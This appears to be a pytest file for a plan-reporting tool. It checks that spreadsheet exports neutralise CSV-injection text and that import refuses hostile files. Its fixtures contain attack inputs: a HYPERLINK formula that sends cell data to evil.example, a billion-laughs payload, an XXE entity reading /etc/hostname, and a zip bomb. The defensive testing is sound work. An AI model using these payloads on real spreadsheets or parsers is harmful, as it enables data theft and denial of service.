"""Issue 22, spreadsheets: no plan text becomes a formula in any CSV or XLSX cspplan
writes (OWASP's CSV injection), a round trip through export and import keeps the text,
and hostile spreadsheets given to `import` (zip bombs, XML entities, claimed sizes, huge
lines) are refused with a message instead of taking the machine."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import pytest
import yaml
from tests.conftest import SHIPPED, PlanTree, run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PLUS = "+SUM(1,2) Domestic abuse"
MINUS = "-2+3 repeat victims"
AT = "@SUM(1,2)"
TAB = "\t=1+1"
CR = "\r=1+1"
HOSTILE = (FORMULA, PLUS, MINUS, AT, TAB, CR)
FRAMEWORK_ID = "testshire-pcp"


@pytest.fixture
def hostile(tree: PlanTree) -> PlanTree:
    """The `tree` partnership with formula-like text wherever plan text reaches a cell: the
    partnership's name, a theme's title, a measure's wording, an action's title, figures'
    notes, and a framework's item title and comment."""
    tree["partnership.yaml"]["name"] = FORMULA
    for year in ("2017-18", "2018-19"):
        theme = tree[f"{year}/themes/domestic-abuse.yaml"]
        theme["title"] = PLUS
        theme["indicators"][0]["wording"] = MINUS
    tree["2018-19/themes/domestic-abuse.yaml"]["actions"][0]["title"] = AT
    series = tree["indicators/repeat-victims.yaml"]["series"]
    series[0]["note"] = TAB
    series[2]["note"] = FORMULA
    referrals = tree["indicators/referrals.yaml"]["series"]
    referrals[0]["note"] = CR
    # a figure no plan printed, so an import may update it
    referrals.append({"period": "Q2 2017/18", "value": 12, "note": "'=already quoted"})
    tree["2017-18/themes/domestic-abuse.yaml"]["links"] = [
        {"framework": FRAMEWORK_ID, "item": "victims", "measure": "repeat-victims", "comment": AT}
    ]
    tree.write()
    frameworks = tree.root / "frameworks"
    frameworks.mkdir()
    framework = {
        "title": "Testshire Police and Crime Plan",
        "kind": "police_and_crime_plan",
        "covers": "2017/21",
        "items": [{"id": "victims", "title": FORMULA}],
    }
    (frameworks / f"{FRAMEWORK_ID}.yaml").write_text(yaml.safe_dump(framework), encoding="utf-8")
    return tree


def _digest(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_safe(cells: list[str], expected: tuple[str, ...]) -> None:
    """No cell a spreadsheet would run, and each expected text there with its quote."""
    running = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert running == [], running
    for text in expected:
        assert "'" + text in cells, (text, cells)


def _ok(*args: str):
    result = run(*args)
    assert result.returncode == 0, result.stderr
    return result


# -- every spreadsheet output ------------------------------------------------------------------


def test_status_csv_neutralises_formula_like_text_and_leaves_the_plan_alone(hostile):
    before = _digest(hostile.root)
    text = _ok("status", str(hostile.folder), "--format", "csv").stdout
    _assert_safe(_cells(text), (PLUS, MINUS))
    compared = _ok("status", str(hostile.folder), "--format", "csv", "--compare-published")
    _assert_safe(_cells(compared.stdout), (PLUS, MINUS))
    output = hostile.root / "status.csv"
    _ok("status", str(hostile.folder), "--format", "csv", "-o", str(output))
    _assert_safe(_cells(output.read_bytes().decode("utf-8-sig")), (PLUS, MINUS))
    output.unlink()
    assert _digest(hostile.root) == before  # the YAML keeps the text as written
    theme = hostile.path("2018-19/themes/domestic-abuse.yaml").read_text(encoding="utf-8")
    assert "+SUM(1,2)" in theme and "'+SUM" not in theme


def test_status_by_partnership_csv_neutralises_formula_like_text(hostile):
    text = _ok("status", str(hostile.folder), "--by", "partnership", "--format", "csv").stdout
    _assert_safe(_cells(text), (PLUS, MINUS))


def test_status_by_framework_csv_neutralises_formula_like_text(hostile):
    text = _ok("status", str(hostile.root), "--by", FRAMEWORK_ID, "--format", "csv").stdout
    _assert_safe(_cells(text), (FORMULA, PLUS, MINUS, AT))


def test_status_csv_is_byte_for_byte_what_pandas_wrote_on_the_shipped_plans():
    """The csv-module writer keeps the shipped plans' CSV as pandas wrote it (columns that
    mix numbers and gaps as floats, booleans, empty cells)."""
    import pandas as pd

    from cspplan.export.cells import records_csv
    from cspplan.rendering import status_formats
    from cspplan.status.assess import assess_year
    from cspplan.status.rollup import records
    from cspplan.workspace import open_plans

    workspace = open_plans([SHIPPED])
    years = [assess_year(csp, year, None) for csp, year in workspace.chosen_years()]
    for compare in (False, True):
        ours = status_formats.to_csv(years, compare=compare)
        rows = [
            status_formats._flat(row)
            for year in years
            for row in status_formats._with_theme_columns(
                year,
                status_formats._with_agreement(year, status_formats.reconcile(year))
                if compare
                else records(year),
                compare,
            )
        ]
        assert ours == pd.DataFrame(rows).to_csv(index=False, lineterminator="\n")
    for year in years:
        assert records_csv(records(year)) == pd.DataFrame(records(year)).to_csv(
            index=False, lineterminator="\n"
        )


def test_status_csv_runs_without_pandas():
    code = (
        "import sys\n"
        "from cspplan.cli import main\n"
        f"sys.argv = ['cspplan', 'status', {str(SHIPPED / 'safer-cornwall' / '2018-19')!r},"
        " '--format', 'csv']\n"
        "try:\n    main()\nexcept SystemExit as exit:\n    assert not exit.code, exit.code\n"
        "print('pandas' in sys.modules, file=sys.stderr)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stderr.strip() == "False"
    assert result.stdout.startswith("partnership,plan_year,as_of,theme,")


def test_export_csv_neutralises_every_table(hostile):
    expected = {
        "figures": (FORMULA, TAB, CR, PLUS),
        "actions": (AT, PLUS, FORMULA),
        "targets": (MINUS, PLUS),
    }
    for table, texts in expected.items():
        output = hostile.root / f"{table}.csv"
        _ok("export", str(hostile.folder), "-o", str(output), "--table", table)
        _assert_safe(_cells(output.read_bytes().decode("utf-8-sig")), texts)
    # text already beginning with a quote and a formula character gets one more, so that
    # import can tell it from a neutralised one
    figures = _cells((hostile.root / "figures.csv").read_bytes().decode("utf-8-sig"))
    assert "''=already quoted" in figures


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as book:
        return {
            name: book.read(name).decode("utf-8")
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def test_export_xlsx_writes_text_as_text_never_a_formula(hostile):
    from openpyxl import load_workbook

    output = hostile.root / "plans.xlsx"
    _ok("export", str(hostile.folder), "-o", str(output))
    sheets = _sheet_xml(output)
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets.values())
    book = load_workbook(output)  # not read-only: formulas would show as data_type "f"
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    _assert_safe(values, (FORMULA, PLUS, MINUS, AT, TAB))
    # a carriage return is stored as OOXML's _x000D_ (XML would read a bare one as LF)
    assert "'_x000D_=1+1" in values
    # the cover sheet names the partnership: neutralised too
    cover = [cell for row in book["Cover"].iter_rows(values_only=True) for cell in row if cell]
    assert "'" + FORMULA in cover and FORMULA not in cover


def test_site_downloads_are_neutralised(hostile):
    site = hostile.root / "site"
    _ok("site", str(hostile.folder), "-o", str(site))
    downloads = sorted(site.rglob("*.csv")) + sorted(site.rglob("*.xlsx"))
    assert {path.suffix for path in downloads} == {".csv", ".xlsx"}
    for path in downloads:
        if path.suffix == ".csv":
            cells = _cells(path.read_bytes().decode("utf-8-sig"))
            assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        else:
            assert not any("<f>" in xml for xml in _sheet_xml(path).values()), path
    figures = _cells((site / "downloads" / "figures.csv").read_bytes().decode("utf-8-sig"))
    assert "'" + FORMULA in figures


# -- LibreOffice Calc runs none of it ------------------------------------------------------------

LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")


def _through_calc(source: Path, out: Path, to: str = "xlsx") -> Path:
    """`source` opened in LibreOffice Calc (headless) and saved as XLSX (any cell Calc took
    for a formula is saved as one) or as CSV."""
    out.mkdir(exist_ok=True)
    env = {**os.environ, "HOME": str(out.parent / "lo-home")}
    subprocess.run(
        [LIBREOFFICE, "--headless", "--convert-to", to, "--outdir", str(out), str(source)],
        check=True,
        capture_output=True,
        env=env,
        timeout=180,
    )
    return out / f"{source.stem}.{to}"


def _formulas(path: Path) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and cell.value not in ("=TRUE()", "=FALSE()")
    ]  # Calc saves a true/false cell as the formula =TRUE(): a boolean, not plan text


@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_calc_runs_no_formula_from_any_output(hostile):
    root = hostile.root
    # the check can see a formula: Calc runs an unneutralised one from a CSV
    control = root / "control.csv"
    control.write_text('a,b\n"=HYPERLINK(""http://evil.example/"",""click"")",x\n')
    assert _formulas(_through_calc(control, root / "calc-control"))
    outputs = {
        "status.csv": ("status", str(hostile.folder), "--format", "csv"),
        "framework.csv": ("status", str(root), "--by", FRAMEWORK_ID, "--format", "csv"),
        "figures.csv": ("export", str(hostile.folder), "--table", "figures"),
        "actions.csv": ("export", str(hostile.folder), "--table", "actions"),
        "plans.xlsx": ("export", str(hostile.folder)),
    }
    for name, command in outputs.items():
        path = root / name
        _ok(*command, "-o", str(path))
        saved = _through_calc(path, root / f"calc-{path.stem}")
        assert _formulas(saved) == [], name
        from openpyxl import load_workbook

        texts = {
            cell
            for sheet in load_workbook(saved).worksheets
            for row in sheet.iter_rows(values_only=True)
            for cell in row
            if isinstance(cell, str)
        }
        assert any(text.startswith("'") and "SUM(1,2)" in text for text in texts), name
    # the export opened in Calc and saved again as CSV goes back in with nothing changed
    resaved = _through_calc(root / "figures.csv", root / "calc-resaved", "csv")
    assert resaved.read_bytes() != (root / "figures.csv").read_bytes()
    before = _digest(hostile.folder)
    result = _ok("import", str(resaved), "--partnership", str(hostile.folder))
    # Calc saves the note's leading carriage return as a line feed, so that one row is
    # looked at again (its figure unchanged); the four others are passed over as they are
    assert "passed over 4 rows unchanged" in result.stdout, result.stdout
    assert "Recorded 0 figures" in result.stdout and _digest(hostile.folder) == before


# -- round trip through import -------------------------------------------------------------------


def test_neutralised_and_restored_are_inverses():
    from cspplan.export.cells import neutralised, restored

    for text in (*HOSTILE, "'=x", "''=x", "'tis", "x", "", "'", "-", "==", "'-'"):
        assert restored(neutralised(text)) == text, text
        assert not neutralised(text).startswith(("=", "+", "-", "@", "\t", "\r")), text


def _edit_value(path: Path, indicator: str, period: str, value: int) -> None:
    """Change one figure in an exported sheet, as a user would in Excel."""
    if path.suffix == ".csv":
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
        at = {name: index for index, name in enumerate(rows[0])}
        for row in rows[1:]:
            if row[at["indicator_id"]] == indicator and row[at["period"]] == period:
                row[at["value"]] = str(value)
        stream = io.StringIO(newline="")
        csv.writer(stream, lineterminator="\r\n").writerows(rows)
        path.write_bytes(b"\xef\xbb\xbf" + stream.getvalue().encode("utf-8"))
        return
    from openpyxl import load_workbook

    book = load_workbook(path)
    sheet = book["Figures"]
    at = {cell.value: index for index, cell in enumerate(sheet[4])}
    for row in sheet.iter_rows(min_row=5):
        if row[at["indicator_id"]].value == indicator and row[at["period"]].value == period:
            row[at["value"]].value = value
    book.save(path)


@pytest.mark.parametrize("name", ["figures.csv", "plans.xlsx"])
def test_an_export_imported_back_keeps_formula_like_text(hostile, name):
    """Every neutralised note reads back as the plan file has it: each row is passed over
    as unchanged, the files byte for byte; and an edited figure is recorded with its note
    as written (`'=already quoted` used to come back as `=already quoted`)."""
    output = hostile.root / name
    _ok("export", str(hostile.folder), "-o", str(output))
    before = _digest(hostile.folder)
    sheet = ("--sheet", "Figures") if name.endswith(".xlsx") else ()
    result = _ok("import", str(output), *sheet, "--partnership", str(hostile.folder))
    assert "passed over 5 rows unchanged" in result.stdout, result.stdout
    assert "Recorded 0 figures" in result.stdout, result.stdout
    assert _digest(hostile.folder) == before
    _edit_value(output, "referrals", "Q2 2017/18", 13)
    result = _ok("import", str(output), *sheet, "--partnership", str(hostile.folder))
    assert "Recorded 1 figure" in result.stdout, result.stdout
    referrals = yaml.safe_load(hostile.path("indicators/referrals.yaml").read_text("utf-8"))
    assert [(e["value"], e.get("note")) for e in referrals["series"]] == [
        (10, CR),
        (13, "'=already quoted"),
    ]
    victims = yaml.safe_load(hostile.path("indicators/repeat-victims.yaml").read_text("utf-8"))
    notes = {entry["period"]: (entry["value"], entry.get("note")) for entry in victims["series"]}
    assert notes["2016/17"] == (30, TAB) and notes["Q3 2017/18"] == (27, FORMULA)


# -- hostile spreadsheets given to import --------------------------------------------------------


def _workbook(path: Path, sheet_xml: bytes | None = None, stream=None) -> Path:
    """A one-sheet workbook (openpyxl's), its sheet replaced by `sheet_xml` or written by
    `stream(handle)`."""
    from openpyxl import Workbook

    plain = path.with_name("plain.xlsx")
    book = Workbook()
    book.active.append(["indicator", "period", "value"])
    book.active.append(["referrals", "Q2 2017/18", 11])
    book.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml" and stream is not None:
                with out.open(info.filename, "w", force_zip64=True) as handle:
                    stream(handle, source.read(info.filename).decode())
                continue
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml" and sheet_xml is not None:
                data = sheet_xml(data.decode()).encode()
            out.writestr(info.filename, data)
    plain.unlink()
    return path


LAUGHS = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i + 1} "{("&lol%s;" % (i or "")) * 10}">' for i in range(9)
)


def _with_entities(declared: str, used: str):
    return lambda xml: (
        f"<!DOCTYPE worksheet [{declared}]>" + xml.replace("<t>referrals</t>", f"<t>{used}</t>")
    )


def _bomb(handle, xml: str) -> None:
    """101 MB of spaces inside the sheet's data: a megabyte or so zipped."""
    head, tail = xml.split("</sheetData>")
    handle.write(head.encode())
    chunk = b" " * (1 << 20)
    for _ in range(101):
        handle.write(chunk)
    handle.write(("</sheetData>" + tail).encode())


def _huge_line(path: Path) -> Path:
    with path.open("w", encoding="utf-8") as handle:
        handle.write("indicator,period,value,note\nreferrals,Q2 2017/18,11,")
        chunk = "x" * (1 << 20)
        for _ in range(100):
            handle.write(chunk)
        handle.write("\n")
    return path


HOSTILE_FILES = {
    "zip bomb": (lambda p: _workbook(p / "bomb.xlsx", stream=_bomb), "unpacks to 101.0 MB"),
    "billion laughs": (
        lambda p: _workbook(p / "laughs.xlsx", _with_entities(LAUGHS, "&lol9;")),
        "declares entities",
    ),
    "external entity": (
        lambda p: _workbook(
            p / "xxe.xlsx", _with_entities('<!ENTITY x SYSTEM "file:///etc/hostname">', "&x;")
        ),
        "declares entities",
    ),
    "100 MB line": (lambda p: _huge_line(p / "long.csv"), "the file is 100.0 MB"),
    "a row wider than a spreadsheet": (
        lambda p: _write(p / "wide.csv", "indicator,period,value\nreferrals" + "," * 16_384),
        "row 2 has 16,385 cells",
    ),
    "not a zip at all": (lambda p: _write(p / "fake.xlsx", "indicator,period\n"), "not an Excel"),
}


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _import_with_peak(path: Path, folder: Path):
    """`cspplan import PATH` into the partnership, and the most memory it held at once."""
    tracemalloc.start()
    try:
        result = run("import", str(path), "--partnership", str(folder))
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("case", HOSTILE_FILES)
def test_a_hostile_spreadsheet_is_refused_with_a_message(tree, tmp_path, case):
    folder = tree.write()
    make, message = HOSTILE_FILES[case]
    path = make(tmp_path)
    before = _digest(folder)
    result, peak = _import_with_peak(path, folder)
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert message in result.stderr and str(path) in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert _digest(folder) == before
    assert peak < 40 * 1024 * 1024, peak  # refused before the bomb or the line is read


def test_a_workbooks_claimed_size_is_not_trusted(tree, tmp_path):
    """A sheet claiming A1:XFD3000 with a cell in row 3000 was padded to 49 million cells
    (with A1:XFD1048576, import never finished); now only the cells the file holds."""
    folder = tree.write()
    path = _workbook(
        tmp_path / "claims.xlsx",
        lambda xml: xml.replace(
            '<dimension ref="A1:C2"/>', '<dimension ref="A1:XFD3000"/>'
        ).replace(
            "</sheetData>",
            '<row r="3000"><c r="A3000" t="inlineStr"><is><t>referrals</t></is></c>'
            '<c r="B3000" t="inlineStr"><is><t>Q3 2017/18</t></is></c>'
            '<c r="C3000"><v>9</v></c></row></sheetData>',
        ),
    )
    result, peak = _import_with_peak(path, folder)
    assert result.returncode == 0, result.stderr
    assert "Recorded 2 figures" in result.stdout
    assert peak < 40 * 1024 * 1024, peak
    text = (folder / "indicators" / "referrals.yaml").read_text(encoding="utf-8")
    assert "value: 11" in text and "value: 9" in text


def test_a_long_note_within_the_limit_is_read(tree, tmp_path):
    """The CSV cell limit is the file's (20 MB), not the csv module's 131,072 characters."""
    folder = tree.write()
    note = "n" * 200_000
    path = _write(
        tmp_path / "long-note.csv", f"indicator,period,value,note\nreferrals,Q2 2017/18,11,{note}\n"
    )
    result = run("import", str(path), "--partnership", str(folder))
    assert result.returncode == 0, result.stderr
    assert note in (folder / "indicators" / "referrals.yaml").read_text(encoding="utf-8")


def test_a_note_longer_than_a_workbook_cell_is_cut_where_it_says_so(tree: PlanTree):
    """Excel holds 32,767 characters in a cell and XlsxWriter used to cut a longer note
    silently; the cut now says so and how long the note is, the CSV keeps it whole, and
    importing the unedited workbook changes nothing."""
    from openpyxl import load_workbook

    note = "Figures revised after the audit. " * 1300  # 42,900 characters
    tree["indicators/repeat-victims.yaml"]["series"][0]["note"] = note
    folder = tree.write()
    workbook, table = tree.root / "figures.xlsx", tree.root / "figures.csv"
    _ok("export", str(folder), "-o", str(workbook))
    _ok("export", str(folder), "-o", str(table), "--table", "figures")
    cells = [
        cell
        for row in load_workbook(workbook, read_only=True)["Figures"].iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str) and cell.startswith("Figures revised")
    ]
    assert len(cells) == 1 and len(cells[0]) <= 32_767
    assert cells[0].endswith(
        "… [cut here: a spreadsheet cell holds 32,767 characters; the whole text, 42,900 "
        "characters, is in the plan file and the CSV export]"
    )
    assert note.rstrip() in [cell.rstrip() for cell in _cells(table.read_text("utf-8-sig"))]
    before = _digest(folder)
    result = _ok("import", str(workbook), "--sheet", "Figures", "--partnership", str(folder))
    assert "Recorded 0 figures" in result.stdout, result.stdout
    assert _digest(folder) == before
